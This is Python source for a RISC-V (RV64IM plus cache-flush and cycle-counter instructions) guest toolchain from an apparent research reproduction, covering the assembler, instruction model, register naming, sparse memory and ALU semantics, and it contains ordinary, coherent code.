    def _process_instruction(self, line: str) -> None:
        parts = line.split(None, 1)
        name = parts[0].lower()
        operand_text = parts[1] if len(parts) > 1 else ""
        operands = _split_operands(operand_text) if operand_text else []
        pseudo = getattr(self, "_pseudo_" + name.replace(".", "_"), None)
        if pseudo is not None:
            pseudo(operands)
            return
        mnemonic = MNEMONIC_BY_NAME.get(name)
        if mnemonic is None:
            raise self._error("unknown instruction: %r" % name)
        self._emit_native(mnemonic, operands)

    def _emit_native(self, mnemonic: Mnemonic, operands: Sequence[str]) -> None:
        spec = SPECS[mnemonic]
        fmt = spec.fmt
        if fmt is Format.R:
            if len(operands) != 3:
                raise self._error("%s takes rd, rs1, rs2" % mnemonic.value)
            self._append_instruction(Instruction(
                mnemonic,
                rd=self._reg(operands[0]),
                rs1=self._reg(operands[1]),
                rs2=self._reg(operands[2]),
            ))
        elif fmt in (Format.I, Format.I_SHIFT):
            if mnemonic is Mnemonic.FENCE:
                self._append_instruction(Instruction(mnemonic))
            elif mnemonic in (Mnemonic.CFLUSH,):
                if len(operands) != 1:
                    raise self._error("cflush takes offset(rs1)")
                imm, rs1, reloc = self._mem_operand(operands[0])
                self._append_instruction(_PendingInstruction(
                    mnemonic, rs1=rs1, imm=imm, reloc=reloc,
                    line=self._line_number,
                ))
            elif mnemonic.value.startswith("l") and SPECS[mnemonic].opcode == 0b0000011:
                if len(operands) != 2:
                    raise self._error("%s takes rd, offset(rs1)" % mnemonic.value)
                imm, rs1, reloc = self._mem_operand(operands[1])
                self._append_instruction(_PendingInstruction(
                    mnemonic, rd=self._reg(operands[0]), rs1=rs1, imm=imm,
                    reloc=reloc, line=self._line_number,
                ))
            elif mnemonic is Mnemonic.JALR:
                self._emit_jalr(operands)
            else:
                if len(operands) != 3:
                    raise self._error("%s takes rd, rs1, imm" % mnemonic.value)
                reloc = self._parse_reloc(operands[2])
                if reloc is not None:
                    kind, value = reloc
                    if kind != "lo":
                        raise self._error(
                            "%%hi() only fits lui's 20-bit immediate"
                        )
                    self._append_instruction(_PendingInstruction(
                        mnemonic,
                        rd=self._reg(operands[0]),
                        rs1=self._reg(operands[1]),
                        imm=value, reloc="lo", line=self._line_number,
                    ))
                else:
                    self._append_instruction(Instruction(
                        mnemonic,
                        rd=self._reg(operands[0]),
                        rs1=self._reg(operands[1]),
                        imm=self._imm(operands[2]),
                    ))
        elif fmt is Format.S:
            if len(operands) != 2:
                raise self._error("%s takes rs2, offset(rs1)" % mnemonic.value)
            imm, rs1, reloc = self._mem_operand(operands[1])
            self._append_instruction(_PendingInstruction(
                mnemonic, rs1=rs1, rs2=self._reg(operands[0]), imm=imm,
                reloc=reloc, line=self._line_number,
            ))
        elif fmt is Format.B:
            if len(operands) != 3:
                raise self._error("%s takes rs1, rs2, target" % mnemonic.value)
            self._append_instruction(_PendingInstruction(
                mnemonic,
                rs1=self._reg(operands[0]),
                rs2=self._reg(operands[1]),
                imm=self._imm_or_symbol(operands[2]),
                reloc="pcrel",
                line=self._line_number,
            ))
        elif fmt is Format.U:
            if len(operands) != 2:
                raise self._error("%s takes rd, imm" % mnemonic.value)
            reloc = self._parse_reloc(operands[1])
            if reloc is not None:
                kind, value = reloc
                if kind != "hi":
                    raise self._error("%%lo() does not fit a U-type immediate")
                self._append_instruction(_PendingInstruction(
                    mnemonic, rd=self._reg(operands[0]),
                    imm=value, reloc="hi", line=self._line_number,
                ))
            else:
                self._append_instruction(Instruction(
                    mnemonic, rd=self._reg(operands[0]), imm=self._imm(operands[1]),
                ))
        elif fmt is Format.J:
            if len(operands) != 2:
                raise self._error("%s takes rd, target" % mnemonic.value)
            self._append_instruction(_PendingInstruction(
                mnemonic,
                rd=self._reg(operands[0]),
                imm=self._imm_or_symbol(operands[1]),
                reloc="pcrel",
                line=self._line_number,
            ))
        elif fmt is Format.SYSTEM:
            self._append_instruction(Instruction(mnemonic))
        elif fmt is Format.CSR:
            if len(operands) != 3:
                raise self._error("%s takes rd, csr, rs1" % mnemonic.value)
            self._append_instruction(Instruction(
                mnemonic,
                rd=self._reg(operands[0]),
                rs1=self._reg(operands[2]),
                imm=self._imm(operands[1]),
            ))
        else:  # pragma: no cover - all formats handled above
            raise self._error("cannot assemble format %r" % fmt)

    def _emit_jalr(self, operands: Sequence[str]) -> None:
        if len(operands) == 1:
            # 'jalr rs' shorthand: jalr ra, rs, 0.
            self._append_instruction(Instruction(
                Mnemonic.JALR, rd=1, rs1=self._reg(operands[0]),
            ))
        elif len(operands) == 2:
            imm, rs1, reloc = self._mem_operand(operands[1])
            self._append_instruction(_PendingInstruction(
                Mnemonic.JALR, rd=self._reg(operands[0]), rs1=rs1, imm=imm,
                reloc=reloc, line=self._line_number,
            ))
        elif len(operands) == 3:
            self._append_instruction(Instruction(
                Mnemonic.JALR,
                rd=self._reg(operands[0]),
                rs1=self._reg(operands[1]),
                imm=self._imm(operands[2]),
            ))
        else:
            raise self._error("jalr takes rd, rs1, imm")

    # ------------------------------------------------------------------
    # Pseudo-instructions.
    # ------------------------------------------------------------------

    def _pseudo_nop(self, operands: Sequence[str]) -> None:
        if operands:
            raise self._error("nop takes no operands")
        self._append_instruction(Instruction(Mnemonic.ADDI))

    def _pseudo_mv(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("mv takes rd, rs")
        self._append_instruction(Instruction(
            Mnemonic.ADDI, rd=self._reg(operands[0]), rs1=self._reg(operands[1]),
        ))

    def _pseudo_not(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("not takes rd, rs")
        self._append_instruction(Instruction(
            Mnemonic.XORI, rd=self._reg(operands[0]), rs1=self._reg(operands[1]), imm=-1,
        ))

    def _pseudo_neg(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("neg takes rd, rs")
        self._append_instruction(Instruction(
            Mnemonic.SUB, rd=self._reg(operands[0]), rs1=0, rs2=self._reg(operands[1]),
        ))

    def _pseudo_seqz(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("seqz takes rd, rs")
        self._append_instruction(Instruction(
            Mnemonic.SLTIU, rd=self._reg(operands[0]), rs1=self._reg(operands[1]), imm=1,
        ))

    def _pseudo_snez(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("snez takes rd, rs")
        self._append_instruction(Instruction(
            Mnemonic.SLTU, rd=self._reg(operands[0]), rs1=0, rs2=self._reg(operands[1]),
        ))

    def _pseudo_li(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("li takes rd, constant")
        rd = self._reg(operands[0])
        value = self._imm(operands[1])
        self._expand_li(rd, value)

    def _expand_li(self, rd: int, value: int) -> None:
        """Materialise an arbitrary 64-bit constant into ``rd``."""
        if not -(1 << 63) <= value < (1 << 64):
            raise self._error("li constant out of 64-bit range: %d" % value)
        # Normalise to signed 64-bit.
        if value >= (1 << 63):
            value -= 1 << 64
        if -2048 <= value <= 2047:
            self._append_instruction(Instruction(Mnemonic.ADDI, rd=rd, imm=value))
            return
        if -(1 << 31) <= value < (1 << 31):
            low = value & 0xFFF
            if low >= 0x800:
                low -= 0x1000
            high = (value - low) >> 12
            # lui sign-extends bit 19 of its immediate on RV64.
            if high >= (1 << 19):
                high -= 1 << 20
            self._append_instruction(Instruction(Mnemonic.LUI, rd=rd, imm=high))
            if low:
                self._append_instruction(Instruction(
                    Mnemonic.ADDIW, rd=rd, rs1=rd, imm=low,
                ))
            return
        # General 64-bit: build the upper part recursively, then shift in
        # 12-bit chunks (the standard las-resort expansion).
        low = value & 0xFFF
        if low >= 0x800:
            low -= 0x1000
        upper = (value - low) >> 12
        self._expand_li(rd, upper)
        self._append_instruction(Instruction(Mnemonic.SLLI, rd=rd, rs1=rd, imm=12))
        if low:
            self._append_instruction(Instruction(Mnemonic.ADDI, rd=rd, rs1=rd, imm=low))

    def _pseudo_la(self, operands: Sequence[str]) -> None:
        if len(operands) != 2:
            raise self._error("la takes rd, symbol")
        rd = self._reg(operands[0])
        target = self._imm_or_symbol(operands[1])
        if isinstance(target, int):
            self._expand_li(rd, target)
            return
        self._append_instruction(_PendingInstruction(
            Mnemonic.LUI, rd=rd, imm=target, reloc="hi", line=self._line_number,
        ))
        self._append_instruction(_PendingInstruction(
            Mnemonic.ADDIW, rd=rd, rs1=rd, imm=target, reloc="lo",
            line=self._line_number,
        ))

    def _pseudo_j(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("j takes a target")
        self._append_instruction(_PendingInstruction(
            Mnemonic.JAL, rd=0, imm=self._imm_or_symbol(operands[0]),
            reloc="pcrel", line=self._line_number,
        ))

    def _pseudo_jr(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("jr takes a register")
        self._append_instruction(Instruction(
            Mnemonic.JALR, rd=0, rs1=self._reg(operands[0]),
        ))

    def _pseudo_ret(self, operands: Sequence[str]) -> None:
        if operands:
            raise self._error("ret takes no operands")
        self._append_instruction(Instruction(Mnemonic.JALR, rd=0, rs1=1))

    def _pseudo_call(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("call takes a target")
        self._append_instruction(_PendingInstruction(
            Mnemonic.JAL, rd=1, imm=self._imm_or_symbol(operands[0]),
            reloc="pcrel", line=self._line_number,
        ))

    def _pseudo_tail(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("tail takes a target")
        self._append_instruction(_PendingInstruction(
            Mnemonic.JAL, rd=0, imm=self._imm_or_symbol(operands[0]),
            reloc="pcrel", line=self._line_number,
        ))

    def _branch_zero(self, mnemonic: Mnemonic, operands: Sequence[str], swap: bool) -> None:
        if len(operands) != 2:
            raise self._error("branch-on-zero takes rs, target")
        rs = self._reg(operands[0])
        rs1, rs2 = (0, rs) if swap else (rs, 0)
        self._append_instruction(_PendingInstruction(
            mnemonic, rs1=rs1, rs2=rs2, imm=self._imm_or_symbol(operands[1]),
            reloc="pcrel", line=self._line_number,
        ))

    def _pseudo_beqz(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BEQ, operands, swap=False)

    def _pseudo_bnez(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BNE, operands, swap=False)

    def _pseudo_blez(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BGE, operands, swap=True)

    def _pseudo_bgez(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BGE, operands, swap=False)

    def _pseudo_bltz(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BLT, operands, swap=False)

    def _pseudo_bgtz(self, operands: Sequence[str]) -> None:
        self._branch_zero(Mnemonic.BLT, operands, swap=True)

    def _swapped_branch(self, mnemonic: Mnemonic, operands: Sequence[str]) -> None:
        if len(operands) != 3:
            raise self._error("branch takes rs1, rs2, target")
        self._append_instruction(_PendingInstruction(
            mnemonic,
            rs1=self._reg(operands[1]),
            rs2=self._reg(operands[0]),
            imm=self._imm_or_symbol(operands[2]),
            reloc="pcrel",
            line=self._line_number,
        ))

    def _pseudo_bgt(self, operands: Sequence[str]) -> None:
        self._swapped_branch(Mnemonic.BLT, operands)

    def _pseudo_ble(self, operands: Sequence[str]) -> None:
        self._swapped_branch(Mnemonic.BGE, operands)

    def _pseudo_bgtu(self, operands: Sequence[str]) -> None:
        self._swapped_branch(Mnemonic.BLTU, operands)

    def _pseudo_bleu(self, operands: Sequence[str]) -> None:
        self._swapped_branch(Mnemonic.BGEU, operands)

    def _pseudo_rdcycle(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("rdcycle takes rd")
        self._append_instruction(Instruction(
            Mnemonic.CSRRS, rd=self._reg(operands[0]), imm=CSR_CYCLE,
        ))

    def _pseudo_rdinstret(self, operands: Sequence[str]) -> None:
        if len(operands) != 1:
            raise self._error("rdinstret takes rd")
        self._append_instruction(Instruction(
            Mnemonic.CSRRS, rd=self._reg(operands[0]), imm=CSR_INSTRET,
        ))

    # ------------------------------------------------------------------
    # Pass 2: symbol resolution and encoding.
    # ------------------------------------------------------------------

    def _resolve(self, value: SymValue, line: int) -> int:
        if isinstance(value, int):
            return value
        name, addend = value
        if name in self._symbols:
            return self._symbols[name] + addend
        if name in self._equates:
            return self._equates[name] + addend
        raise AssemblerError("undefined symbol: %r" % name, line)

    def _link(self) -> Program:
        text = bytearray()
        for pending in self._pending:
            imm = pending.imm
            if pending.reloc == "pcrel" or isinstance(imm, tuple) or pending.reloc in ("hi", "lo"):
                resolved = self._resolve(imm, pending.line) if isinstance(imm, tuple) else imm
                if pending.reloc == "pcrel" and isinstance(imm, tuple):
                    resolved -= pending.address
                elif pending.reloc in ("hi", "lo"):
                    low = resolved & 0xFFF
                    if low >= 0x800:
                        low -= 0x1000
                    if pending.reloc == "hi":
                        resolved = (resolved - low) >> 12
                    else:
                        resolved = low
                imm = resolved
            inst = Instruction(
                pending.mnemonic,
                rd=pending.rd,
                rs1=pending.rs1,
                rs2=pending.rs2,
                imm=imm,
                address=pending.address,
            )
            try:
                text += encode_bytes(inst)
            except ValueError as exc:
                raise AssemblerError(str(exc), pending.line) from exc
        data = bytearray()
        for item in self._data_items:
            value = self._resolve(item.value, item.line)
            mask = (1 << (item.width * 8)) - 1
            data += (value & mask).to_bytes(item.width, "little")
        if self.text_base + len(text) > self.data_base and data:
            raise AssemblerError(
                "text image (%d bytes) overlaps data base %#x"
                % (len(text), self.data_base)
            )
        entry = self._symbols.get("_start", self.text_base)
        return Program(
            text=bytes(text),
            data=bytes(data),
            text_base=self.text_base,
            data_base=self.data_base,
            entry=entry,
            symbols=dict(self._symbols),
        )


def assemble(
    source: str,
    text_base: int = DEFAULT_TEXT_BASE,
    data_base: int = DEFAULT_DATA_BASE,
) -> Program:
    """Assemble ``source`` with default bases; convenience wrapper."""
    return Assembler(text_base=text_base, data_base=data_base).assemble(source)
