"""Guest instruction set: RV64IM subset plus ``rdcycle`` and ``cflush``.

This package is the guest-side toolchain of the reproduction: instruction
model, binary encoder/decoder, two-pass assembler and disassembler.  The
paper's attacks and benchmarks are all expressed as guest programs built
with these tools.
"""

from .assembler import Assembler, AssemblerError, assemble
from .container import (
    ContainerError,
    from_bytes,
    is_container,
    load_program,
    save_program,
    to_bytes,
)
from .decoding import DecodingError, decode, decode_bytes
from .disassembler import disassemble_program, disassemble_word, dump
from .encoding import EncodingError, encode, encode_bytes
from .instruction import Instruction, format_instruction
from .opcodes import (
    BRANCH_MNEMONICS,
    CSR_CYCLE,
    CSR_INSTRET,
    Format,
    InstructionSpec,
    JUMP_MNEMONICS,
    LOAD_MNEMONICS,
    Mnemonic,
    SPECS,
    STORE_MNEMONICS,
    is_branch,
    is_control_flow,
    is_jump,
    is_load,
    is_store,
)
from .program import (
    DEFAULT_DATA_BASE,
    DEFAULT_STACK_TOP,
    DEFAULT_TEXT_BASE,
    Program,
    SymbolError,
)
from .registers import (
    ABI_NAMES,
    NUM_REGISTERS,
    UnknownRegisterError,
    parse_register,
    register_name,
)

__all__ = [
    "ABI_NAMES",
    "Assembler",
    "AssemblerError",
    "BRANCH_MNEMONICS",
    "ContainerError",
    "CSR_CYCLE",
    "CSR_INSTRET",
    "DEFAULT_DATA_BASE",
    "DEFAULT_STACK_TOP",
    "DEFAULT_TEXT_BASE",
    "DecodingError",
    "EncodingError",
    "Format",
    "Instruction",
    "InstructionSpec",
    "JUMP_MNEMONICS",
    "LOAD_MNEMONICS",
    "Mnemonic",
    "NUM_REGISTERS",
    "Program",
    "SPECS",
    "STORE_MNEMONICS",
    "SymbolError",
    "UnknownRegisterError",
    "assemble",
    "decode",
    "decode_bytes",
    "disassemble_program",
    "disassemble_word",
    "dump",
    "encode",
    "encode_bytes",
    "format_instruction",
    "from_bytes",
    "is_container",
    "is_branch",
    "is_control_flow",
    "is_jump",
    "is_load",
    "is_store",
    "load_program",
    "parse_register",
    "register_name",
    "save_program",
    "to_bytes",
]
