"""Decoded guest instruction model.

An :class:`Instruction` is the decoded, format-independent view of one
32-bit guest instruction word.  It is produced by the assembler and the
binary decoder, consumed by the functional interpreter and by the DBT
engine's first-pass translator.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Tuple

from .opcodes import (
    ACCESS_WIDTH,
    Format,
    Mnemonic,
    SPECS,
    is_branch,
    is_control_flow,
    is_jump,
    is_load,
    is_store,
)
from .registers import register_name


@dataclass(frozen=True)
class Instruction:
    """One decoded guest instruction.

    Fields that do not apply to a given format are zero: e.g. a ``lui``
    has no ``rs1``/``rs2``, an ``sb`` has no ``rd``.  ``imm`` holds the
    sign-extended immediate (the CSR number for Zicsr instructions, the
    shift amount for immediate shifts).
    """

    mnemonic: Mnemonic
    rd: int = 0
    rs1: int = 0
    rs2: int = 0
    imm: int = 0
    #: Address the instruction was assembled/decoded at, if known.
    address: Optional[int] = field(default=None, compare=False)

    @property
    def fmt(self) -> Format:
        """Encoding format of this instruction."""
        return SPECS[self.mnemonic].fmt

    @property
    def is_load(self) -> bool:
        return is_load(self.mnemonic)

    @property
    def is_store(self) -> bool:
        return is_store(self.mnemonic)

    @property
    def is_memory(self) -> bool:
        """Whether the instruction accesses data memory."""
        return self.is_load or self.is_store or self.mnemonic is Mnemonic.CFLUSH

    @property
    def is_branch(self) -> bool:
        return is_branch(self.mnemonic)

    @property
    def is_jump(self) -> bool:
        return is_jump(self.mnemonic)

    @property
    def is_control_flow(self) -> bool:
        return is_control_flow(self.mnemonic)

    @property
    def is_system(self) -> bool:
        return self.mnemonic in (Mnemonic.ECALL, Mnemonic.EBREAK)

    @property
    def access_width(self) -> int:
        """Width in bytes of the memory access (loads/stores only)."""
        return ACCESS_WIDTH[self.mnemonic]

    def reads(self) -> Tuple[int, ...]:
        """Architectural registers read by this instruction.

        ``x0`` reads are reported as-is (the consumer decides whether to
        treat them as constants).
        """
        fmt = self.fmt
        if fmt in (Format.U, Format.J):
            return ()
        if fmt in (Format.R, Format.S, Format.B):
            return (self.rs1, self.rs2)
        if fmt is Format.SYSTEM:
            return ()
        # I, I_SHIFT, CSR, and custom cflush all read rs1 only.
        return (self.rs1,)

    def writes(self) -> Tuple[int, ...]:
        """Architectural registers written by this instruction."""
        fmt = self.fmt
        if fmt in (Format.S, Format.B, Format.SYSTEM):
            return ()
        if self.mnemonic is Mnemonic.CFLUSH or self.mnemonic is Mnemonic.FENCE:
            return ()
        if self.rd == 0:
            return ()
        return (self.rd,)

    def __str__(self) -> str:  # pragma: no cover - debugging aid
        return format_instruction(self)


def format_instruction(inst: Instruction) -> str:
    """Render ``inst`` in assembler syntax (used by the disassembler)."""
    name = inst.mnemonic.value
    fmt = inst.fmt
    rd = register_name(inst.rd) if inst.rd < 32 else "x%d" % inst.rd
    rs1 = register_name(inst.rs1) if inst.rs1 < 32 else "x%d" % inst.rs1
    rs2 = register_name(inst.rs2) if inst.rs2 < 32 else "x%d" % inst.rs2
    if fmt is Format.R:
        return "%s %s, %s, %s" % (name, rd, rs1, rs2)
    if fmt is Format.I:
        if inst.is_load:
            return "%s %s, %d(%s)" % (name, rd, inst.imm, rs1)
        if inst.mnemonic is Mnemonic.CFLUSH:
            return "%s %d(%s)" % (name, inst.imm, rs1)
        if inst.mnemonic is Mnemonic.FENCE:
            return name
        return "%s %s, %s, %d" % (name, rd, rs1, inst.imm)
    if fmt is Format.I_SHIFT:
        return "%s %s, %s, %d" % (name, rd, rs1, inst.imm)
    if fmt is Format.S:
        return "%s %s, %d(%s)" % (name, rs2, inst.imm, rs1)
    if fmt is Format.B:
        return "%s %s, %s, %d" % (name, rs1, rs2, inst.imm)
    if fmt is Format.U:
        return "%s %s, %d" % (name, rd, inst.imm)
    if fmt is Format.J:
        return "%s %s, %d" % (name, rd, inst.imm)
    if fmt is Format.CSR:
        return "%s %s, %#x, %s" % (name, rd, inst.imm, rs1)
    return name
