"""Architectural register names for the RV64 guest ISA.

The guest ISA exposes the 32 integer registers of RISC-V.  Registers can be
written either as ``x0`` .. ``x31`` or with their standard ABI names
(``zero``, ``ra``, ``sp``, ...).  Internally every register is an integer
index in ``range(32)``; this module owns the mapping in both directions.
"""

from __future__ import annotations

NUM_REGISTERS = 32

#: ABI names indexed by register number, per the RISC-V psABI.
ABI_NAMES = (
    "zero", "ra", "sp", "gp", "tp",
    "t0", "t1", "t2",
    "s0", "s1",
    "a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7",
    "s2", "s3", "s4", "s5", "s6", "s7", "s8", "s9", "s10", "s11",
    "t3", "t4", "t5", "t6",
)

_NAME_TO_INDEX = {name: index for index, name in enumerate(ABI_NAMES)}
_NAME_TO_INDEX.update({"x%d" % index: index for index in range(NUM_REGISTERS)})
# 'fp' is the conventional alias for s0/x8.
_NAME_TO_INDEX["fp"] = 8

ZERO = 0
RA = 1
SP = 2
A0 = 10
A1 = 11
A7 = 17


class UnknownRegisterError(ValueError):
    """Raised when a register name cannot be resolved."""


def parse_register(name: str) -> int:
    """Return the register index for ``name`` (ABI or ``xN`` form).

    >>> parse_register("sp")
    2
    >>> parse_register("x31")
    31
    """
    try:
        return _NAME_TO_INDEX[name.strip().lower()]
    except KeyError:
        raise UnknownRegisterError("unknown register name: %r" % name) from None


def register_name(index: int) -> str:
    """Return the canonical ABI name for register ``index``.

    >>> register_name(2)
    'sp'
    """
    if not 0 <= index < NUM_REGISTERS:
        raise UnknownRegisterError("register index out of range: %r" % index)
    return ABI_NAMES[index]


def is_valid_register(index: int) -> bool:
    """Whether ``index`` denotes an architectural integer register."""
    return 0 <= index < NUM_REGISTERS
