"""Flat byte-addressable guest memory.

Sparse page-backed memory shared by the functional interpreter and the
VLIW platform (where it sits behind the simulated data cache).  All
accesses are little-endian; unwritten memory reads as zero.
"""

from __future__ import annotations

from typing import Dict, Iterator, Tuple

PAGE_SHIFT = 12
PAGE_SIZE = 1 << PAGE_SHIFT
PAGE_MASK = PAGE_SIZE - 1


class MemoryError_(Exception):
    """Raised on malformed accesses (bad width, negative address)."""


class Memory:
    """Sparse flat memory with little-endian scalar accessors."""

    __slots__ = ("_pages",)

    def __init__(self) -> None:
        self._pages: Dict[int, bytearray] = {}

    def _page_for(self, address: int) -> bytearray:
        page_number = address >> PAGE_SHIFT
        page = self._pages.get(page_number)
        if page is None:
            page = bytearray(PAGE_SIZE)
            self._pages[page_number] = page
        return page

    # ------------------------------------------------------------------
    # Byte-granularity primitives.
    # ------------------------------------------------------------------

    def load_bytes(self, address: int, size: int) -> bytes:
        """Read ``size`` bytes starting at ``address``."""
        if address < 0 or size < 0:
            raise MemoryError_("bad access: address=%r size=%r" % (address, size))
        offset = address & PAGE_MASK
        if offset + size <= PAGE_SIZE:
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                return bytes(size)
            return bytes(page[offset:offset + size])
        out = bytearray(size)
        position = 0
        while position < size:
            current = address + position
            offset = current & PAGE_MASK
            chunk = min(size - position, PAGE_SIZE - offset)
            page = self._pages.get(current >> PAGE_SHIFT)
            if page is not None:
                out[position:position + chunk] = page[offset:offset + chunk]
            position += chunk
        return bytes(out)

    def store_bytes(self, address: int, data: bytes) -> None:
        """Write ``data`` starting at ``address``."""
        if address < 0:
            raise MemoryError_("bad access: address=%r" % address)
        position = 0
        size = len(data)
        while position < size:
            current = address + position
            offset = current & PAGE_MASK
            chunk = min(size - position, PAGE_SIZE - offset)
            page = self._page_for(current)
            page[offset:offset + chunk] = data[position:position + chunk]
            position += chunk

    # ------------------------------------------------------------------
    # Scalar accessors.
    # ------------------------------------------------------------------

    def load_int(self, address: int, width: int, signed: bool = False) -> int:
        """Read a ``width``-byte little-endian integer."""
        if width not in (1, 2, 4, 8):
            raise MemoryError_("bad access width: %r" % width)
        offset = address & PAGE_MASK
        if address >= 0 and offset + width <= PAGE_SIZE:
            page = self._pages.get(address >> PAGE_SHIFT)
            if page is None:
                return 0
            return int.from_bytes(page[offset:offset + width], "little",
                                  signed=signed)
        return int.from_bytes(self.load_bytes(address, width), "little", signed=signed)

    def store_int(self, address: int, value: int, width: int) -> None:
        """Write a ``width``-byte little-endian integer (value is masked)."""
        if width not in (1, 2, 4, 8):
            raise MemoryError_("bad access width: %r" % width)
        mask = (1 << (width * 8)) - 1
        offset = address & PAGE_MASK
        if address >= 0 and offset + width <= PAGE_SIZE:
            page = self._page_for(address)
            page[offset:offset + width] = (value & mask).to_bytes(
                width, "little")
            return
        self.store_bytes(address, (value & mask).to_bytes(width, "little"))

    # ------------------------------------------------------------------
    # Bulk helpers.
    # ------------------------------------------------------------------

    def load_image(self, base: int, image: bytes) -> None:
        """Copy a program segment into memory."""
        self.store_bytes(base, image)

    def pages(self) -> Iterator[Tuple[int, bytes]]:
        """Iterate (page base address, page contents) for populated pages."""
        for page_number in sorted(self._pages):
            yield page_number << PAGE_SHIFT, bytes(self._pages[page_number])

    def snapshot(self) -> "Memory":
        """Deep copy, used by rollback tests and the MCB recovery path."""
        clone = Memory()
        clone._pages = {number: bytearray(page) for number, page in self._pages.items()}
        return clone

    def equal_contents(self, other: "Memory") -> bool:
        """Whether both memories hold identical data (zero pages ignored)."""
        zero = bytes(PAGE_SIZE)
        mine = {n: bytes(p) for n, p in self._pages.items() if bytes(p) != zero}
        theirs = {n: bytes(p) for n, p in other._pages.items() if bytes(p) != zero}
        return mine == theirs
