"""Shared integer ALU semantics.

Both the functional interpreter and the VLIW pipeline need the exact same
arithmetic; keeping it in one table prevents semantic drift between the
reference model and the platform under test.  Every function maps two
64-bit unsigned operands to a 64-bit unsigned result, following the
RV64IM specification (including the division corner cases).
"""

from __future__ import annotations

from typing import Callable, Dict

from .state import MASK64, sign_extend32, to_signed, to_unsigned

BinOp = Callable[[int, int], int]

_INT64_MIN = -(1 << 63)
_INT32_MIN = -(1 << 31)


def _add(a: int, b: int) -> int:
    return (a + b) & MASK64


def _sub(a: int, b: int) -> int:
    return (a - b) & MASK64


def _sll(a: int, b: int) -> int:
    return (a << (b & 63)) & MASK64


def _srl(a: int, b: int) -> int:
    return a >> (b & 63)


def _sra(a: int, b: int) -> int:
    return to_unsigned(to_signed(a) >> (b & 63))


def _slt(a: int, b: int) -> int:
    return 1 if to_signed(a) < to_signed(b) else 0


def _sltu(a: int, b: int) -> int:
    return 1 if a < b else 0


def _xor(a: int, b: int) -> int:
    return a ^ b


def _or(a: int, b: int) -> int:
    return a | b


def _and(a: int, b: int) -> int:
    return a & b


def _addw(a: int, b: int) -> int:
    return sign_extend32(a + b)


def _subw(a: int, b: int) -> int:
    return sign_extend32(a - b)


def _sllw(a: int, b: int) -> int:
    return sign_extend32(a << (b & 31))


def _srlw(a: int, b: int) -> int:
    return sign_extend32((a & 0xFFFFFFFF) >> (b & 31))


def _sraw(a: int, b: int) -> int:
    return sign_extend32(to_signed(a, 32) >> (b & 31))


def _mul(a: int, b: int) -> int:
    return (a * b) & MASK64


def _mulh(a: int, b: int) -> int:
    return to_unsigned((to_signed(a) * to_signed(b)) >> 64)


def _mulhsu(a: int, b: int) -> int:
    return to_unsigned((to_signed(a) * b) >> 64)


def _mulhu(a: int, b: int) -> int:
    return (a * b) >> 64


def _trunc_div(sa: int, sb: int) -> int:
    """Signed division truncating toward zero (RISC-V semantics).

    Exact integer arithmetic: ``int(sa / sb)`` would round through a
    float and corrupt quotients once |sa| exceeds 2**53.
    """
    quotient = abs(sa) // abs(sb)
    return -quotient if (sa < 0) != (sb < 0) else quotient


def _div(a: int, b: int) -> int:
    sa, sb = to_signed(a), to_signed(b)
    if sb == 0:
        return MASK64  # all ones == -1
    if sa == _INT64_MIN and sb == -1:
        return to_unsigned(_INT64_MIN)
    return to_unsigned(_trunc_div(sa, sb))


def _divu(a: int, b: int) -> int:
    if b == 0:
        return MASK64
    return a // b


def _rem(a: int, b: int) -> int:
    sa, sb = to_signed(a), to_signed(b)
    if sb == 0:
        return a
    if sa == _INT64_MIN and sb == -1:
        return 0
    return to_unsigned(sa - _trunc_div(sa, sb) * sb)


def _remu(a: int, b: int) -> int:
    if b == 0:
        return a
    return a % b


def _mulw(a: int, b: int) -> int:
    return sign_extend32(a * b)


def _divw(a: int, b: int) -> int:
    sa, sb = to_signed(a, 32), to_signed(b, 32)
    if sb == 0:
        return MASK64
    if sa == _INT32_MIN and sb == -1:
        return to_unsigned(_INT32_MIN)
    return sign_extend32(_trunc_div(sa, sb))


def _divuw(a: int, b: int) -> int:
    ua, ub = a & 0xFFFFFFFF, b & 0xFFFFFFFF
    if ub == 0:
        return MASK64
    return sign_extend32(ua // ub)


def _remw(a: int, b: int) -> int:
    sa, sb = to_signed(a, 32), to_signed(b, 32)
    if sb == 0:
        return sign_extend32(sa)
    if sa == _INT32_MIN and sb == -1:
        return 0
    return sign_extend32(sa - _trunc_div(sa, sb) * sb)


def _remuw(a: int, b: int) -> int:
    ua, ub = a & 0xFFFFFFFF, b & 0xFFFFFFFF
    if ub == 0:
        return sign_extend32(ua)
    return sign_extend32(ua % ub)


#: Operation name -> semantics.  Names match RISC-V mnemonics; the VLIW
#: ISA reuses the same names for its ALU opcodes.
OPERATIONS: Dict[str, BinOp] = {
    "add": _add, "sub": _sub, "sll": _sll, "slt": _slt, "sltu": _sltu,
    "xor": _xor, "srl": _srl, "sra": _sra, "or": _or, "and": _and,
    "addw": _addw, "subw": _subw, "sllw": _sllw, "srlw": _srlw, "sraw": _sraw,
    "mul": _mul, "mulh": _mulh, "mulhsu": _mulhsu, "mulhu": _mulhu,
    "div": _div, "divu": _divu, "rem": _rem, "remu": _remu,
    "mulw": _mulw, "divw": _divw, "divuw": _divuw, "remw": _remw,
    "remuw": _remuw,
}


def apply(op: str, a: int, b: int) -> int:
    """Apply ALU operation ``op`` to unsigned 64-bit operands."""
    return OPERATIONS[op](a & MASK64, b & MASK64)
